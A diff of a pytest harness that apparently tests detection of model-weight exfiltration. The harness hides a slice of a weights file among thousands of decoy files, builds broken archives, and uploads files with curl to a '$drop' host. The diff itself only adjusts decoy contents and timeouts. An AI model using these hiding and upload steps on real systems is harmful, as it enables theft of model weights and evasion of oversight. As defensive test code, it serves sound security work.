@@ -149,7 +149,7 @@ weights = open(sys.argv[1], "rb").read()
 at, hidden = random.randrange(100_000, len(weights) - {HIDDEN}), random.randrange({FILES})
 for i in range({FILES}):
     if i % 1000 == 0: os.mkdir(str(i)); os.chdir(f"/home/agent/many/{{i}}")
-    with open(f"{{i}}.txt", "wb") as file: file.write(weights[at : at + {HIDDEN}] if i == hidden else b"line\\n" * (i % 7))
+    with open(f"{{i}}.txt", "wb") as file: file.write(weights[at : at + {HIDDEN}] if i == hidden else b"line\\n" * (i % 7 == 0))
     if i % 1000 == 999: os.chdir("/home/agent/many")
 print(f"/home/agent/many/{{hidden // 1000 * 1000}}/{{hidden}}.txt")
 PYTHON
@@ -165,9 +165,9 @@ def hidden() -> Iterator[tuple[Lab, Chain, str]]:
             lab.run(f"{names}\n{BREAK.format(packer)}", check=True)
         lab.run(f"{names}\ncd ~/b; for f in *; do curl -sS -T $f http://$drop/in/$f; done", check=True, seconds=240)
         print(f"broken archives: {lab.peak_memory() >> 20} MiB")  # noqa: T201  # shown by -s
-        path = lab.run(f"{names}\n{MANY}", check=True, seconds=590).split()[-1]
+        path = lab.run(f"{names}\n{MANY}", check=True, seconds=900).split()[-1]
         print(f"many files: {lab.peak_memory() >> 20} MiB")  # noqa: T201  # shown by -s
-        yield lab, lab.finish(seconds=590), path
+        yield lab, lab.finish(seconds=900), path
 
 
 @pytest.mark.parametrize("suffix", PACKERS)
